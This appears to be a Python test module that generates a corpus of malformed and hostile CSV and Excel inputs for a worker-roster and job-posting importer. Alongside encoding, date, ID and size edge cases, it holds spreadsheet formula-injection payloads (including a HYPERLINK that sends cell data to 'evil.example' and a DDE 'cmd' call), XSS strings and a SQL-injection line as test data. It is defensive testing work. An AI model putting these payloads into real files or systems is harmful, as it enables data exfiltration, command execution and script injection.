"""The bad-input corpus: what each file of `tests/data/broken/` holds and why, and how it is made.

The committed files are tiny and are written by this module (`python -m tests.hardening.corpus
[--force]` writes the missing ones, or all of them, and the folder's README.md). Inputs too big to
commit are made in memory when a test asks for them (`GENERATED`, `BIG`): a 10,000-column table, a
row of 10,000 cells, cells of 200,000 characters and a 50 MB roster.

Most text files carry both a roster's columns and a job posting's (`职位`, `公司名称`, `薪资`,
`招聘人数`, `发布日期`), so that every reader gets past the header and meets the bad rows
themselves. Extra columns are ignored by both readers.

Long because it is the catalogue: every input with its maker and its reason side by side,
in one place, so the folder's README, the files and the tests cannot disagree.
"""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from intake.identity import id_check_char

BROKEN = Path(__file__).resolve().parents[1] / "data" / "broken"

HEADER = (
    "姓名",
    "身份证号",
    "手机号",
    "出发地",
    "用工单位",
    "纬度",
    "经度",
    "健康状态",
    "最早出发",
    "职位",
    "公司名称",
    "薪资",
    "招聘人数",
    "发布日期",
)
EMPLOYERS = ("郑州宇辉电子科技有限公司", "郑州中原智芯股份有限公司", "郑州汉光测控技术有限公司")


def valid_id(serial: int, birth: str = "19900101", area: str = "411625") -> str:
    """A resident ID number that passes GB 11643 (serial 0..999)."""
    first17 = f"{area}{birth}{serial:03d}"
    return first17 + id_check_char(first17)


def good_row(serial: int, **fields: str) -> list[str]:
    """A roster-and-posting row that every reader accepts; `fields` overrides some cells by
    header name (`姓名=...`)."""
    row = {
        "姓名": f"工人{serial}",
        "身份证号": valid_id(serial),
        "手机号": f"138{serial:08d}",
        "出发地": "河南省周口市郸城县",
        "用工单位": EMPLOYERS[serial % 3],
        "纬度": "",
        "经度": "",
        "健康状态": "健康",
        "最早出发": "2020-02-18",
        "职位": f"普工{serial}",
        "公司名称": EMPLOYERS[serial % 3],
        "薪资": "4-6千/月",
        "招聘人数": "招5人",
        "发布日期": "2020-02-10",
    }
    unknown = set(fields) - set(row)
    if unknown:
        raise KeyError(unknown)
    row.update(fields)
    return [row[name] for name in HEADER]


def csv_text(
    rows: list[list[str]],
    *,
    delimiter: str = ",",
    header: tuple[str, ...] = HEADER,
    newline: str = "\n",
) -> str:
    """Rows joined as CSV with quoting only where a cell needs it (no csv module: some of these
    files must be wrong in ways it would repair)."""

    def cell(text: str) -> str:
        if any(ch in text for ch in (delimiter, '"', "\n", "\r")):
            return '"' + text.replace('"', '""') + '"'
        return text

    lines = [delimiter.join(cell(c) for c in row) for row in [list(header), *rows]]
    return newline.join(lines) + newline


def xlsx_bytes(
    rows: list[list[object]], *, header: tuple[str, ...] | None = HEADER, sheets_before: int = 0
) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for number in range(sheets_before):
        book.create_sheet(f"空白{number}", 0)
    if header is not None:
        sheet.append(list(header))
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --- the committed files ----------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "[点我](javascript:alert(1))",
    "**粗体** _斜体_ $x^2$",
    "&lt;b&gt;已转义&lt;/b&gt;",
    "{{7*7}}${7*7}",
    "'; DROP TABLE workers; --",
)


def _formulas_csv() -> bytes:
    rows = [good_row(i, 姓名=f, 职位=f, 公司名称=f"{f}公司") for i, f in enumerate(FORMULAS)]
    rows.append(good_row(20, 出发地="=cmd|' /C calc'!A0", 纬度="33.64", 经度="115.18"))
    rows.append(good_row(21, 用工单位="=郑州宇辉电子科技有限公司"))
    return csv_text(rows).encode("utf-8")


def _formulas_xlsx() -> bytes:
    rows: list[list[object]] = [good_row(i, 姓名=f) for i, f in enumerate(FORMULAS[:5])]
    # Real formula cells: openpyxl writes no cached value, so a reader sees an empty cell.
    rows.append(good_row(10, 姓名='=CONCATENATE("张","三")', 身份证号="=A1"))
    rows.append(good_row(11, 手机号="=13800000000+1"))
    return xlsx_bytes(rows)


def _scripts_csv() -> bytes:
    rows = [
        good_row(i, 姓名=s, 职位=s, 公司名称=s, 出发地=f"郸城县{s}") for i, s in enumerate(SCRIPTS)
    ]
    rows.append(good_row(30, 用工单位="<script>alert(1)</script>"))
    rows.append(good_row(31, 出发地="<b>火星</b>"))
    return csv_text(rows).encode("utf-8")


def _bad_ids_csv() -> bytes:
    good = valid_id(1)
    wrong_check = good[:17] + ("0" if good[17] != "0" else "1")
    ids = [
        wrong_check,  # check digit mistyped
        good[:16] + good[17] + good[16],  # two digits swapped
        good[:15],  # 15 digits (old cards)
        good[:17],  # 17 characters
        good + "1",  # 19 characters
        "4.11625E+17",  # Excel turned it into a number
        "411625199001010112.0",  # a float's text
        "99" + good[2:],  # no such province
        valid_id(2, birth="19901399")[:17] + "0",  # month 13
        valid_id(3, birth="20991231"),  # born in the future
        valid_id(4, birth="18991231"),  # born before 1900
        "ABCDEFGHIJKLMNOPQR",
        "".join(chr(ord(c) + 0xFEE0) for c in valid_id(5)),  # full-width digits: still valid
        "",
        " ",
        "411625 19900101 0051",  # spaces, short
        valid_id(6).lower(),
        "-" + good,
        "=" + good,
    ]
    rows = [good_row(100 + i, 身份证号=text) for i, text in enumerate(ids)]
    rows.append(good_row(150, 身份证号=valid_id(150)))
    rows.append(good_row(151, 身份证号=valid_id(150)))  # the same person twice
    return csv_text(rows).encode("utf-8")


def _bad_phones_csv() -> bytes:
    phones = [
        "1380013800",
        "138001380001",
        "23800138000",
        "+86 138-0013-8000",
        "8613800138000",
        "13８00138000",
        "1.38001E+10",
        "138 0013 8000 转 123",
        "电话",
        "",
        "0",
        "-1",
        "=13800138000",
        "0371-6788888",
        "00000000000",
        "+1 415 555 0100",
    ]
    return csv_text([good_row(200 + i, 手机号=p) for i, p in enumerate(phones)]).encode("utf-8")


DATES = (
    "2020-02-18",
    "2020/2/18",
    "2020.2.18",
    "20200218",
    "2020年2月18日",  # the five formats
    "2/18",
    "02-18",
    "2月18日",  # without a year
    "18/02/2020",
    "02/18/2020",
    "2020-02-30",
    "2020-13-01",
    "43879",
    "下周",
    "2020-2-18T06:00",
    "0000-00-00",
    "9999-12-31",
    "2020-02-18 06:00:00",
    "  2020-02-18  ",
    "２０２０－０２－１８",
)


def _dates_csv() -> bytes:
    rows = [good_row(300 + i, 最早出发=d, 发布日期=d) for i, d in enumerate(DATES)]
    return csv_text(rows).encode("utf-8")


def _dates_xlsx() -> bytes:
    import datetime as dt

    values: list[object] = [
        dt.datetime(2020, 2, 18),
        dt.date(2020, 2, 18),
        dt.datetime(2020, 2, 18, 6, 30),
        43879,
        43879.5,
        "2020年2月18日",
        True,
        dt.time(6, 0),
        -1,
        1e300,
    ]
    rows: list[list[object]] = []
    for i, value in enumerate(values):
        row: list[object] = list(good_row(330 + i))
        row[HEADER.index("最早出发")] = value
        row[HEADER.index("发布日期")] = value
        rows.append(row)
    return xlsx_bytes(rows)


def _numbers_xlsx() -> bytes:
    """ID numbers and phones typed as numbers, as Excel does when nobody formats the column."""
    rows: list[list[object]] = []
    for i in range(4):
        row: list[object] = list(good_row(360 + i))
        row[HEADER.index("身份证号")] = float(valid_id(360 + i)[:17] + "1")
        row[HEADER.index("手机号")] = int(f"138{360 + i:08d}")
        row[HEADER.index("纬度")] = 33.64
        row[HEADER.index("经度")] = 115.18
        rows.append(row)
    return xlsx_bytes(rows)


def _coordinates_csv() -> bytes:
    pairs = [
        ("nan", "nan"),
        ("inf", "-inf"),
        ("1e999", "1e999"),
        ("115.18", "33.64"),
        ("33.64", ""),
        ("", "115.18"),
        ("33.64，115.18", ""),
        ("北纬33度", "东经115度"),
        ("91", "181"),
        ("-0", "-0"),
        ("0x21", "0x73"),
        ("33,64", "115,18"),
        ("1_0", "2_0"),
    ]
    rows = [good_row(400 + i, 纬度=lat, 经度=lon) for i, (lat, lon) in enumerate(pairs)]
    return csv_text(rows).encode("utf-8")


def _control_chars_csv() -> bytes:
    names = [
        "张\u200b伟",
        "\u202e伟张",
        "\x1b[31m红\x1b[0m",
        "李\x0b娜",
        "王\x0c强",
        "赵\u2028六",
        "🚌司机",
        "\u3000\u3000",
        "\x7f",
        "\ufeff刘洋",
        "陈\u0301静",
        "Robert'); --",
    ]
    rows = [
        good_row(450 + i, 姓名=n, 出发地=f"郸城{n}", 职位=f"普工{n}", 公司名称=f"{n}公司")
        for i, n in enumerate(names)
    ]
    return csv_text(rows).encode("utf-8")


def _postings_hostile_csv() -> bytes:
    salaries = [
        "=1+1",
        "-5000",
        "9999999999999999999999元/月",
        "1e308K",
        "0-0",
        "8千-6千",
        "面议",
        "5-7千·99薪",
        "100万/年",
        "-3--1千",
        "６-８千",
        "NaN",
        "1/0",
        "3.14.15千",
    ]
    counts = ["招-1人", "招99999999999999999999人", "招0人", "招若干人", "招1e9人", "", "十"]
    dates = ["2020-13-45", "99-99", "0000-00-00", "1900-01-01", "2999-12-31", "02-30发布", "昨天"]
    rows = []
    for i, salary in enumerate(salaries):
        rows.append(
            good_row(
                500 + i,
                薪资=salary,
                招聘人数=counts[i % len(counts)],
                发布日期=dates[i % len(dates)],
            )
        )
    rows.append(good_row(530, 职位="", 公司名称=""))
    rows.append(good_row(531, 职位="x" * 300))
    return csv_text(rows).encode("utf-8")


def _mixed_encoding() -> bytes:
    rows = [good_row(600), good_row(601), good_row(602)]
    text = csv_text(rows).splitlines(keepends=True)
    lines = [line.encode("gbk") for line in text]
    lines[2] = text[2].encode("utf-8")  # one UTF-8 line inside a GBK file
    return b"".join(lines)


def _truncated_xlsx() -> bytes:
    whole = xlsx_bytes([good_row(i) for i in range(3)])
    return whole[: len(whole) // 2]


def _zip_not_xlsx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("名单.csv", csv_text([good_row(1)]))
    return buffer.getvalue()


def _xlsx_without_sheet_xml() -> bytes:
    """A workbook zip with its worksheet removed."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([good_row(1)])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for item in source.infolist():
            if not item.filename.startswith("xl/worksheets/"):
                archive.writestr(item, source.read(item.filename))
    return buffer.getvalue()


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)


@dataclass(frozen=True)
class Entry:
    """One bad input: its file name, what it tests, and how to make its bytes."""

    name: str
    tests: str
    make: Callable[[], bytes]


def _rows(*rows: list[str], **options) -> Callable[[], bytes]:
    encoding = options.pop("encoding", "utf-8")
    return lambda: csv_text(list(rows), **options).encode(encoding)


COMMITTED = (
    Entry("empty.csv", "zero bytes", lambda: b""),
    Entry("bom_only.csv", "a UTF-8 byte-order mark and nothing else", lambda: b"\xef\xbb\xbf"),
    Entry(
        "blank_lines.csv",
        "only blank lines, spaces and empty cells",
        lambda: b"\n\n   \n,,,,\n\t\n",
    ),
    Entry("header_only.csv", "the header row and no data", _rows()),
    Entry("header_only.xlsx", "a workbook with the header row and no data", lambda: xlsx_bytes([])),
    Entry(
        "empty_workbook.xlsx",
        "a workbook with one empty sheet",
        lambda: xlsx_bytes([], header=None),
    ),
    Entry(
        "title_above_header.csv",
        "a title line above the header (the header is not row 1)",
        lambda: ("2020年返岗人员名单\n" + csv_text([good_row(1)])).encode("utf-8"),
    ),
    Entry(
        "wrong_delimiter_fullwidth.csv",
        "cells separated by the full-width comma `，`",
        _rows(good_row(1), good_row(2), delimiter="，"),
    ),
    Entry(
        "wrong_delimiter_rows.csv",
        "a comma header over rows separated by semicolons",
        lambda: (
            ",".join(HEADER) + "\n" + ";".join(good_row(1)) + "\n" + ";".join(good_row(2)) + "\n"
        ).encode("utf-8"),
    ),
    Entry(
        "semicolon.csv",
        "semicolons throughout (a European Excel export): readable",
        _rows(good_row(1), good_row(2), delimiter=";"),
    ),
    Entry("mixed_encoding.csv", "a GBK file with one UTF-8 line (row 2) in it", _mixed_encoding),
    Entry(
        "invalid_bytes.csv",
        "UTF-8 with stray 0xFF bytes: neither UTF-8 nor GBK",
        lambda: csv_text([good_row(1)]).encode("utf-8") + b"\xff\xfe\xff,\xff\n",
    ),
    Entry(
        "utf16.csv",
        "UTF-16 LE with BOM, tab-separated (Excel's Unicode text): readable",
        lambda: (
            b"\xff\xfe" + csv_text([good_row(1), good_row(2)], delimiter="\t").encode("utf-16-le")
        ),
    ),
    Entry(
        "utf16_be.csv",
        "UTF-16 BE with BOM: readable",
        lambda: b"\xfe\xff" + csv_text([good_row(1)]).encode("utf-16-be"),
    ),
    Entry(
        "utf16_no_bom.csv",
        "UTF-16 LE without a BOM (full of NUL bytes)",
        lambda: csv_text([good_row(1)]).encode("utf-16-le"),
    ),
    Entry(
        "nul_bytes.csv",
        "a NUL byte inside a cell",
        lambda: csv_text([good_row(1, 姓名="张\x00伟"), good_row(2)]).encode("utf-8"),
    ),
    Entry("binary_renamed.csv", "a PNG image renamed .csv", lambda: PNG),
    Entry(
        "gzip_renamed.csv",
        "a gzip file renamed .csv",
        lambda: gzip.compress(csv_text([good_row(1)]).encode(), mtime=0),
    ),
    Entry(
        "pdf_renamed.xlsx",
        "a (fake) PDF renamed .xlsx",
        lambda: b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    ),
    Entry(
        "csv_renamed.xlsx",
        "a good CSV named .xlsx: readable (the bytes decide)",
        _rows(good_row(1)),
    ),
    Entry("truncated.xlsx", "the first half of a valid workbook", _truncated_xlsx),
    Entry("zip_not_xlsx.xlsx", "a zip archive holding a CSV, not a workbook", _zip_not_xlsx),
    Entry(
        "xlsx_no_sheet.xlsx",
        "a workbook zip whose worksheet part is missing",
        _xlsx_without_sheet_xml,
    ),
    Entry(
        "pk_magic_only.xlsx",
        "the zip magic bytes and garbage",
        lambda: b"PK\x03\x04" + bytes(range(256)),
    ),
    Entry(
        "open_quote.csv",
        "a quote left open on row 1: it swallows the rest of the file",
        lambda: (
            ",".join(HEADER)
            + "\n"
            + ",".join(good_row(1)).replace("工人1", '"工人1')
            + "\n"
            + ",".join(good_row(2))
            + "\n"
        ).encode("utf-8"),
    ),
    Entry(
        "stray_quotes.csv",
        "quotes in the middle of unquoted cells",
        lambda: (
            ",".join(HEADER)
            + "\n"
            + ",".join(good_row(1, 姓名='张"伟', 出发地='郸城"县'))
            + "\n"
            + ",".join(good_row(2, 职位='"普工"夜班'))
            + "\n"
        ).encode("utf-8"),
    ),
    Entry(
        "repeated_header.csv",
        "the header row repeated twice among the rows",
        lambda: csv_text(
            [good_row(1), list(HEADER), good_row(2), list(HEADER), good_row(3)]
        ).encode("utf-8"),
    ),
    Entry(
        "duplicate_columns.csv",
        "two 姓名 and two 身份证号 columns",
        _rows(good_row(1)[:2] + good_row(1), header=HEADER[:2] + HEADER),
    ),
    Entry(
        "wide_row.csv",
        "a row with more cells than the header, one with fewer",
        _rows(good_row(1), [*good_row(2), "多", "出", "来"], good_row(3)[:4]),
    ),
    Entry(
        "cr_line_endings.csv",
        "old Mac line endings (CR only)",
        _rows(good_row(1), good_row(2), newline="\r"),
    ),
    Entry(
        "formulas.csv",
        "names, origins, employers, titles and companies that spreadsheets run "
        "as formulas: `=HYPERLINK(...)`, `+1+1`, `@SUM(A1)`, `-2+3`, `=cmd|...`, tab and CR "
        "starts",
        _formulas_csv,
    ),
    Entry(
        "formulas.xlsx",
        "formula-looking text and real formula cells (no cached value)",
        _formulas_xlsx,
    ),
    Entry(
        "script_names.csv",
        "HTML, script, markdown, template and SQL text in names, titles, companies and origins",
        _scripts_csv,
    ),
    Entry(
        "bad_ids.csv",
        "ID numbers: bad check digits, swapped digits, 15/17/19 characters, "
        "Excel's `4.11625E+17`, no such province, impossible birth dates, full width, lower "
        "case x, the same ID twice",
        _bad_ids_csv,
    ),
    Entry(
        "bad_phones.csv",
        "phones: too short or long, not 1x, +86 forms, full width, "
        "scientific notation, extensions, formulas, foreign",
        _bad_phones_csv,
    ),
    Entry(
        "dates.csv",
        "ready and posting dates in the five accepted formats, without a year, "
        "day-first, US, impossible, Excel serials, words, full width",
        _dates_csv,
    ),
    Entry(
        "dates.xlsx", "date cells, datetimes, times, serial numbers, booleans, 1e300", _dates_xlsx
    ),
    Entry(
        "numbers.xlsx",
        "ID numbers and phones stored as numbers (the ID's last digits lost)",
        _numbers_xlsx,
    ),
    Entry(
        "empty_sheets_first.xlsx",
        "two empty sheets before the sheet with the roster",
        lambda: xlsx_bytes([good_row(1), good_row(2)], sheets_before=2),
    ),
    Entry(
        "coordinates.csv",
        "latitude/longitude: nan, inf, 1e999, swapped, one missing, "
        "words, out of range, hex, decimal commas",
        _coordinates_csv,
    ),
    Entry(
        "control_chars.csv",
        "zero-width space, right-to-left override, ANSI escapes, "
        "vertical tab, form feed, line separator, emoji, BOM inside a cell",
        _control_chars_csv,
    ),
    Entry(
        "postings_hostile.csv",
        "salaries, headcounts and dates no board prints (negative, "
        "huge, reversed, 99薪, impossible dates), no title or company, a 300-character title",
        _postings_hostile_csv,
    ),
)


# --- made in memory, never committed ------------------------------------------------------------

FIFTY_MB = 50 * 1024 * 1024
LONG_CELL = 200_000  # over the csv module's default field limit (131,072)


def ten_thousand_columns() -> bytes:
    """The roster header followed by 9,986 more columns, and two rows that fill them."""
    header = HEADER + tuple(f"列{n}" for n in range(10_000 - len(HEADER)))
    filler = ["x"] * (len(header) - len(HEADER))
    return csv_text([good_row(1) + filler, good_row(2) + filler], header=header).encode("utf-8")


def ten_thousand_cells_in_a_row() -> bytes:
    """A normal header and a row of 10,000 cells."""
    return csv_text([good_row(1), good_row(2) + ["多"] * 10_000]).encode("utf-8")


def long_cells() -> bytes:
    """Cells of 200,000 characters in the name, origin and title, read by pandas' parser."""
    long = "长" * LONG_CELL
    return csv_text(
        [
            good_row(1, 姓名=long),
            good_row(2, 出发地="郸城县" + long),
            good_row(3, 职位=long, 薪资="4" * 1000),
            good_row(4),
        ]
    ).encode("utf-8")


def long_cells_slow_path() -> bytes:
    """The same with a too-wide row holding a stray quote, which sends the file down the
    record-by-record reader (the csv module refuses cells over 131,072 characters)."""
    long = "长" * LONG_CELL
    return csv_text([good_row(1, 姓名=long), [*good_row(2), '多"'], good_row(3)]).encode("utf-8")


def fifty_megabytes() -> bytes:
    """A file of about 50 MB (the app accepts uploads up to 60 MB): 22,000 rows of the same
    worker, each with a 700-character job title that the roster reader ignores."""
    head = ",".join(HEADER).encode("utf-8") + b"\n"
    row = ",".join(good_row(7, 职位="普工" + "某" * 700)).encode("utf-8")
    count = (FIFTY_MB - len(head)) // (len(row) + 1) + 1
    return head + (row + b"\n") * count


GENERATED = (
    Entry("ten_thousand_columns.csv", "10,000 columns (made in memory)", ten_thousand_columns),
    Entry(
        "ten_thousand_cells.csv",
        "a row of 10,000 cells under a normal header (made in memory)",
        ten_thousand_cells_in_a_row,
    ),
    Entry("long_cells.csv", "cells of 200,000 characters (made in memory)", long_cells),
    Entry(
        "long_cells_slow_path.csv",
        "cells of 200,000 characters in a file with a too-wide "
        "row and a stray quote, read record by record (made in memory)",
        long_cells_slow_path,
    ),
)
BIG = Entry(
    "fifty_megabytes.csv", "a 50 MB roster (made in memory, used by its own tests)", fifty_megabytes
)
"""The 50 MB file runs only through the readers that must cope with it, not every entry point."""

ALL = COMMITTED + GENERATED


def load(entry: Entry) -> bytes:
    """The bytes of a corpus entry: the committed file, or made in memory."""
    if entry in COMMITTED:
        return (BROKEN / entry.name).read_bytes()
    return entry.make()


def readme() -> str:
    lines = [
        "# Broken and hostile input",
        "",
        "Every file here is run through every reader, command line, the database import and (some)",
        "the app upload by `tests/hardening/test_bad_input.py`. Written by",
        "`python -m tests.hardening.corpus`, which also says how each is made; the files are tiny.",
        "Most text files carry both roster columns (`姓名`, `身份证号`, `手机号`, `出发地`, `用工单位`, …)",
        "and posting columns (`职位`, `公司名称`, `薪资`, `招聘人数`, `发布日期`), so both readers get",
        "past the header and meet the bad rows.",
        "",
        "| file | what it tests |",
        "|---|---|",
        *(f"| `{e.name}` | {e.tests} |" for e in COMMITTED),
        "",
        "Made in memory by the tests (too big to commit):",
        "",
        "| input | what it tests |",
        "|---|---|",
        *(f"| `{e.name}` | {e.tests} |" for e in (*GENERATED, BIG)),
        "",
    ]
    return "\n".join(lines)


def write(*, force: bool = False) -> None:
    """Write the missing files (all with `force`: workbooks and zips then differ by their
    timestamps) and the README."""
    BROKEN.mkdir(parents=True, exist_ok=True)
    for entry in COMMITTED:
        path = BROKEN / entry.name
        if force or not path.exists():
            path.write_bytes(entry.make())
    (BROKEN / "README.md").write_text(readme(), encoding="utf-8")


if __name__ == "__main__":
    import sys

    write(force="--force" in sys.argv)
